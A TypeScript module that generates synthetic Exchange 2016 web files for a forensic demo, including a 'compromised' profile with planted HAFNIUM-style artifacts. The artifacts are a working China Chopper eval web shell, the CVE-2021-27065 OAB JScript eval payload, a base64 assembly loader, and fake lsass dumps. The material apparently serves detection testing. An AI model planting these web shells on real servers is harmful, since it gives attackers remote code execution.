/**
 * @module Files of the demo server's web folders and the planted files of the `compromised`
 * profile. Every text file opens with a comment saying it is synthetic; binary files carry the
 * same notice inside (a GIF comment block, text after the dump and archive headers).
 *
 * The standard pages are stand-ins written for this demo (names of a real Exchange 2016 install,
 * contents of our own); they must not raise findings. The planted ones reproduce the published
 * shapes of HAFNIUM-era files: the China Chopper one-liner, an OAB virtual directory dump whose
 * ExternalUrl holds a JScript `eval` (the CVE-2021-27065 write), an assembly loader with made-up
 * base64, lsass dumps (`MDMP` header) and a 7-Zip archive (header only) in ProgramData.
 */
import type { DemoContext } from './context.js';
import { SYNTHETIC_NOTE } from './text.js';

export interface WebFile {
  /** Below the output root, `/` separators. */
  readonly path: string;
  readonly content: Buffer;
  readonly mtime: number;
}

const ASPX_NOTE = `<%-- ${SYNTHETIC_NOTE} --%>`;

function aspx(title: string, inherits: string): string {
  return [
    ASPX_NOTE,
    `<%@ Page Language="C#" AutoEventWireup="false" Inherits="${inherits}" %>`,
    '<!DOCTYPE html>',
    `<html><head><meta charset="utf-8"><title>${title}</title></head>`,
    `<body><div id="main">${title}</div></body></html>`,
    '',
  ].join('\r\n');
}

/** A 1x1 GIF89a whose comment extension block holds the synthetic notice. */
export function syntheticGif(): Buffer {
  const note = Buffer.from(SYNTHETIC_NOTE, 'ascii');
  return Buffer.concat([
    Buffer.from('GIF89a', 'ascii'),
    Buffer.from([0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00]),
    Buffer.from([0x21, 0xfe, note.length]),
    note,
    Buffer.from([0x00, 0x2c, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3b]),
  ]);
}

const OWA_PAGES: readonly (readonly [string, string])[] = [
  ['logon.aspx', 'Microsoft.Exchange.HttpProxy.Logon'],
  ['errorFE.aspx', 'Microsoft.Exchange.HttpProxy.ErrorFE'],
  ['expiredpassword.aspx', 'Microsoft.Exchange.HttpProxy.ExpiredPassword'],
  ['frowny.aspx', 'Microsoft.Exchange.HttpProxy.Frowny'],
  ['logoff.aspx', 'Microsoft.Exchange.HttpProxy.Logoff'],
  ['signout.aspx', 'Microsoft.Exchange.HttpProxy.SignOut'],
  ['OutlookCN.aspx', 'Microsoft.Exchange.HttpProxy.OutlookCN'],
  ['RedirSuiteServiceProxy.aspx', 'Microsoft.Exchange.HttpProxy.RedirSuiteServiceProxy'],
];

/** The standard web files of an Exchange 2016 front end and of IIS (every profile). */
export function standardWebFiles(ctx: DemoContext, installedAt: number): WebFile[] {
  const http = `${ctx.installRel}/FrontEnd/HttpProxy`;
  const res = `${http}/owa/auth/${ctx.build.owaFolder}/themes/resources`;
  const text = (path: string, s: string): WebFile => ({ path, content: Buffer.from(s, 'ascii'), mtime: installedAt });
  const css = (name: string): WebFile =>
    text(`${res}/${name}`, `/* ${SYNTHETIC_NOTE} */\r\nbody { font-family: "Segoe UI", Tahoma, sans-serif; }\r\n.signInBg { background-color: #0072c6; }\r\n`);
  return [
    ...OWA_PAGES.map(([name, inherits]) => text(`${http}/owa/auth/${name}`, aspx(`Outlook (${name})`, inherits))),
    text(`${http}/owa/auth/getidtoken.htm`, `<!-- ${SYNTHETIC_NOTE} -->\r\n<!DOCTYPE html>\r\n<html><head><title>getidtoken</title></head><body></body></html>\r\n`),
    ...['clear1x1.gif', 'lgntopl.gif', 'lgntopr.gif'].map((n): WebFile => ({ path: `${res}/${n}`, content: syntheticGif(), mtime: installedAt })),
    css('logon.css'),
    css('owafont.css'),
    text(`${http}/ecp/auth/TimeoutLogoff.aspx`, aspx('Exchange Admin Center (TimeoutLogoff)', 'Microsoft.Exchange.Management.ControlPanel.TimeoutLogoff')),
    text('C/inetpub/wwwroot/iisstart.htm', `<!-- ${SYNTHETIC_NOTE} -->\r\n<!DOCTYPE html>\r\n<html><head><title>IIS Windows Server</title></head><body><h1>IIS Windows Server</h1></body></html>\r\n`),
  ];
}

/** Folders a collector keeps even when empty. */
export function standardFolders(ctx: DemoContext): string[] {
  return [
    'C/inetpub/wwwroot/aspnet_client/system_web/4_0_30319',
    'C/Windows/Temp',
    'C/ProgramData',
    'C/root',
    `${ctx.installRel}/ClientAccess/OAB/${ctx.oabGuid}`,
  ];
}

/** The JScript payload HAFNIUM wrote into the OAB ExternalUrl (MS HAFNIUM blog; CISA AA21-062A). */
export const OAB_SCRIPT = '<script language="JScript" runat="server">function Page_Load(){eval(Request["exec_code"],"unsafe");}</script>';

export function chopperShell(): string {
  return `${ASPX_NOTE}\r\n<%@ Page Language="Jscript"%><%eval(Request.Item["Ananas"],"unsafe");%>\r\n`;
}

/** `Get-OabVirtualDirectory | Format-List`-style dump, as the reset-vdir trick leaves on disk. */
export function oabConfigDump(ctx: DemoContext): string {
  const rows: readonly (readonly [string, string])[] = [
    ['RunspaceId', '8a2f1c3e-5b7d-4e19-9c0a-6d4b2e8f1a37'],
    ['PollInterval', '480'],
    ['OfflineAddressBooks', ''],
    ['RequireSSL', 'False'],
    ['BasicAuthentication', 'False'],
    ['WindowsAuthentication', 'True'],
    ['OAuthAuthentication', 'True'],
    ['MetabasePath', `IIS://${ctx.fqdn}/W3SVC/1/ROOT/OAB`],
    ['Path', `${ctx.installWin}FrontEnd\\HttpProxy\\OAB`],
    ['ExtendedProtectionTokenChecking', 'None'],
    ['ExtendedProtectionFlags', ''],
    ['ExtendedProtectionSPNList', ''],
    ['AdminDisplayVersion', `Version ${ctx.build.major}.${ctx.build.minor} (Build ${ctx.build.build}.${ctx.build.revision})`],
    ['Server', ctx.host],
    ['InternalUrl', `https://${ctx.fqdn}/OAB`],
    ['InternalAuthenticationMethods', 'WindowsIntegrated'],
    ['ExternalUrl', `http://f/${OAB_SCRIPT}`],
    ['ExternalAuthenticationMethods', 'WindowsIntegrated'],
    ['Name', 'OAB (Default Web Site)'],
    ['Identity', `${ctx.host}\\OAB (Default Web Site)`],
    ['IsValid', 'True'],
    ['ObjectState', 'Unchanged'],
  ];
  const width = Math.max(...rows.map(([k]) => k.length));
  return [ASPX_NOTE, '', ...rows.map(([k, v]) => `${k.padEnd(width)} : ${v}`.trimEnd()), '', ''].join('\r\n');
}

/** Made-up bytes that start like a PE file and say what they are. */
function fakeAssembly(): Buffer {
  const head = Buffer.alloc(64);
  Buffer.from([0x4d, 0x5a, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00, 0x04, 0x00, 0x00, 0x00, 0xff, 0xff, 0x00, 0x00, 0xb8]).copy(head);
  return Buffer.concat([head, Buffer.from(`${SYNTHETIC_NOTE}. Not a program. `.repeat(4), 'ascii')]);
}

export function base64Loader(): string {
  return [
    ASPX_NOTE,
    '<%@ Page Language="C#" %>',
    '<script runat="server">',
    'protected void Page_Load(object sender, EventArgs e)',
    '{',
    '    if (Request.Form["t"] == null) { Response.StatusCode = 404; return; }',
    `    System.Reflection.Assembly.Load(Convert.FromBase64String("${fakeAssembly().toString('base64')}")).CreateInstance("Ldr").Equals(Context);`,
    '}',
    '</script>',
    '',
  ].join('\r\n');
}

/** `MDMP` minidump signature and version, then zeros and the notice. */
export function fakeMinidump(size: number): Buffer {
  const b = Buffer.alloc(size);
  Buffer.from([0x4d, 0x44, 0x4d, 0x50, 0x93, 0xa7, 0x00, 0x00, 0x0d, 0x00, 0x00, 0x00, 0x20, 0x00, 0x00, 0x00]).copy(b);
  Buffer.from(SYNTHETIC_NOTE, 'ascii').copy(b, 64);
  return b;
}

/** 7-Zip signature `7z\xBC\xAF\x27\x1C`, version 0.4, then zeros and the notice. */
export function fake7z(): Buffer {
  const b = Buffer.alloc(512);
  Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c, 0x00, 0x04]).copy(b);
  Buffer.from(SYNTHETIC_NOTE, 'ascii').copy(b, 32);
  return b;
}
